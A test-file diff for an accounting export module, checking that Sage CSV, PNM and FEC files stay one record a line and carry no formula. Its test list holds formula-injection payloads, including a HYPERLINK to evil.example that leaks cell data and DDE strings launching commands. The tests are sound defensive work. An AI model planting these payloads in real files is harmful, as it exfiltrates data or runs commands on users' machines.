@@ -12,6 +12,8 @@ import {
   layoutWidth,
   pnmLines,
   sageCsvLines,
+  SAGE_CSV_LABEL_WIDTH,
+  singleLineText,
   type FluxForEntry,
   type ThirdPartyRule,
 } from './index';
@@ -154,6 +156,82 @@ describe('files', () => {
       '',
     ]);
     expect(fecFileName('775671356', '2025-08-31')).toBe('775671356FEC20250831.txt');
+  });
+
+  describe('hostile labels (issue 15): files the server writes hold one record a line and no formula', () => {
+    const HOSTILE = [
+      '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      'Ligne 1\r\nLigne 2\nLigne 3\rfin',
+      'Tab\tavant\u000bVT\u000cFF\u0085NEL\u2028LS\u2029PS\u0000NUL\u007fDEL fin',
+    ];
+    const entryWith = (label: string) => buildEntry({ ...FLUX, label }, 'federation', HEAD_OFFICE, 'VE', []);
+    const records = (text: string) => text.split('\r\n').slice(0, -1);
+    // eslint-disable-next-line no-control-regex -- the point is to find control characters
+    const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;
+
+    it('singleLineText: control characters (C0, C1, DEL, Unicode line separators) become one space, ends trimmed', () => {
+      expect(singleLineText('a\r\nb\tc\u0000d\u0085e\u2028f\u007f')).toBe('a b c d e f');
+      expect(singleLineText('  \t=1+1 \r\n')).toBe('=1+1');
+      expect(singleLineText('Licence adulte 2025 - Éloïse Œuvré')).toBe('Licence adulte 2025 - Éloïse Œuvré');
+    });
+
+    it('SAGE CSV: text cells starting with = + - @ tab or CR get an apostrophe, like the browser exports', () => {
+      for (const label of HOSTILE) {
+        const lines = records(sageCsvLines(entryWith(label)));
+        expect(lines, label).toHaveLength(1);
+        for (const line of lines) {
+          expect(line, label).not.toMatch(CONTROL);
+          const labelCell = line.split(';').slice(5, -3).join(';').replace(/^"|"$/g, '');
+          expect(labelCell, label).not.toMatch(/^[=+\-@]/);
+        }
+      }
+      expect(records(sageCsvLines(entryWith('=1+1')))[0]).toBe("VE;070325;411000;411069012;42;'=1+1;123,45;;");
+    });
+
+    it('SAGE CSV: amounts stay numbers; only text cells are neutralised', () => {
+      const credit = buildEntry({ ...FLUX, isDebit: false }, 'federation', HEAD_OFFICE, 'VE', [
+        { ...licence, amountCents: -12_345 },
+      ]);
+      for (const line of records(sageCsvLines(credit))) {
+        const [, , , , , , debit, creditCell] = line.split(';');
+        expect(`${debit}${creditCell}`).toBe('123,45');
+      }
+    });
+
+    it('SAGE CSV: the label is cut to the Sage label width (35, as in PNM)', () => {
+      expect(SAGE_CSV_LABEL_WIDTH).toBe(35);
+      const [line] = records(sageCsvLines(entryWith('x'.repeat(200))));
+      expect(line?.split(';')[5]).toBe('x'.repeat(35));
+    });
+
+    it('PNM: every record is one line of 138 characters without control characters', () => {
+      for (const label of HOSTILE) {
+        const lines = records(pnmLines(entryWith(label)));
+        expect(lines, label).toHaveLength(1);
+        for (const line of lines) {
+          expect(line, label).toHaveLength(138);
+          expect(line, label).not.toMatch(CONTROL);
+        }
+      }
+    });
+
+    it('FEC: every record is one line of 18 tab-separated fields without other control characters', () => {
+      for (const label of HOSTILE) {
+        const lines = records(fecLines(entryWith(label)));
+        expect(lines, label).toHaveLength(1);
+        for (const line of lines) {
+          expect(line.split('\t'), label).toHaveLength(18);
+          expect(line.replaceAll('\t', ' '), label).not.toMatch(CONTROL);
+        }
+      }
+      const [line] = records(fecLines(entryWith('Ligne 1\r\nLigne 2')));
+      expect(line?.split('\t')[10]).toBe('Ligne 1 Ligne 2');
+    });
   });
 
   it('export query: rejects impossible dates and reversed periods', () => {
